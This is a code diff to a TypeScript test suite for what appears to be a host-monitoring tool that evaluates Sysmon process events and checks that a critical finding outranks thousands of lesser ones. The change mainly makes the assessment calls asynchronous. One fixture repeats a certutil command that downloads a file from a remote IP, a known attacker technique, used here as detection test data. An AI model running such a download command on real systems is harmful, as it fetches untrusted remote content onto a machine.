@@ -17,12 +17,13 @@ async function assess(event: object) {
   const recording = openRecording({ name: 'events.jsonl', bytes: bytes() });
   for await (const batch of recording.batches) for (const each of batch) watch.note(each);
   const { sha256, items, items_read, unread } = recording.report();
-  return assessHosts(watch, {
+  const { result } = await assessHosts(watch, {
     source: 'events.jsonl',
     checked: { question: '?', corpus: { sha256, items, items_read } },
     not_checked: unread.map((gap) => ({ ...gap, mandatory: true })),
     data_versions: {},
-  }).result;
+  });
+  return result;
 }
 const start = (command: string, more: object = {}) => ({
   Channel: 'Microsoft-Windows-Sysmon/Operational',
@@ -66,7 +67,7 @@ test('an event with more fields than are read counts as unread and is named', as
   expect(result.not_checked[0]?.why).toBe('it has more fields, values or layers than are read');
 });
 
-test('a grave finding is not crowded out by thousands of lesser ones', () => {
+test('a grave finding is not crowded out by thousands of lesser ones', async () => {
   const watch = createHostWatch();
   const all = [
     ...Array.from({ length: 2_100 }, (_, index) => ({ command: 'certutil -urlcache -f http://198.51.100.7/a', index })),
@@ -76,7 +77,7 @@ test('a grave finding is not crowded out by thousands of lesser ones', () => {
     const event = normalizeEvent(start(command, { ProcessGuid: `{${index}}` }), `line ${index}`);
     if (event) watch.note(event);
   }
-  const { result } = assessHosts(watch, SEEN);
+  const { result } = await assessHosts(watch, SEEN);
   expect(result.findings[0]).toMatchObject({ severity: 'critical' });
 });
 
